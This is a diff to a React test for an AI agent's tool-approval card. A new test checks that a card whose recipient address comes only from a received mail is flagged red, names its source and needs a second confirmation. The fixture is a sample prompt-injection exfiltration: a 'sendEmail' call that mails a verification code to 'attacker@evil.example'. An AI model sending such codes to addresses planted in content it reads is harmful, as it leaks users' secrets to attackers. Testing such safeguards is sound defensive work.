@@ -2,6 +2,7 @@
 import { render, screen, within } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
 import { describe, expect, it, vi } from "vitest";
+import { APPROVAL_CARD_TEXTS } from "@sage/contracts/external-tools";
 import { ApprovalCard } from "./approval-card";
 
 describe("ApprovalCard", () => {
@@ -15,7 +16,14 @@ describe("ApprovalCard", () => {
     render(
       <ul>
         <ApprovalCard
-          approval={{ approvalId: "a1", name: "scheduleTask", args: { rrule: "DTSTART;TZID=Europe/Zurich:20261127T070000" }, summary }}
+          approval={{
+            approvalId: "a1",
+            name: "scheduleTask",
+            args: { rrule: "DTSTART;TZID=Europe/Zurich:20261127T070000" },
+            risk: "asked",
+            provenance: {},
+            summary,
+          }}
           onAnswer={onAnswer}
         />
       </ul>,
@@ -29,6 +37,40 @@ describe("ApprovalCard", () => {
     expect(screen.getByText("Details")).toBeTruthy();
     expect(screen.getByLabelText("Arguments").closest("details")?.open).toBe(false);
     await userEvent.click(screen.getByRole("button", { name: "Approve" }));
-    expect(onAnswer).toHaveBeenCalledWith(true);
+    expect(onAnswer).toHaveBeenCalledWith(true, undefined);
+  });
+
+  it("a card with a content-derived value is red, names where it came from, and approves only on a second, deliberate confirmation", async () => {
+    const onAnswer = vi.fn(async () => {});
+    const reason = "This address appears only in the mail from noreply@shop.example of 14 May; you never wrote it.";
+    render(
+      <ul>
+        <ApprovalCard
+          approval={{
+            approvalId: "a2",
+            name: "sendEmail",
+            args: { to: ["attacker@evil.example"], subject: "Code", body: "463820" },
+            risk: "content-derived",
+            provenance: { to: { from: "content", source: { title: "the mail from noreply@shop.example of 14 May", messageId: 4 } } },
+            reason,
+          }}
+          onAnswer={onAnswer}
+        />
+      </ul>,
+    );
+    const card = screen.getByTestId("approval-card");
+    expect(card.dataset.risk).toBe("content-derived");
+    expect(screen.getByTestId("approval-warning").textContent).toBe(APPROVAL_CARD_TEXTS.contentDerivedTitle);
+    expect(screen.getByTestId("approval-reason").textContent).toBe(reason);
+    await userEvent.click(screen.getByRole("button", { name: "Approve" }));
+    expect(onAnswer).not.toHaveBeenCalled();
+    const confirm = screen.getByRole("alertdialog", { name: APPROVAL_CARD_TEXTS.confirmQuestion });
+    // Focus moves to the confirming button, so a keyboard user answers the question that just appeared.
+    expect(document.activeElement).toBe(within(confirm).getByRole("button", { name: APPROVAL_CARD_TEXTS.confirmApprove }));
+    await userEvent.click(within(confirm).getByRole("button", { name: APPROVAL_CARD_TEXTS.confirmCancel }));
+    expect(onAnswer).not.toHaveBeenCalled();
+    await userEvent.click(screen.getByRole("button", { name: "Approve" }));
+    await userEvent.keyboard("{Enter}");
+    expect(onAnswer).toHaveBeenCalledWith(true, "content-derived");
   });
 });
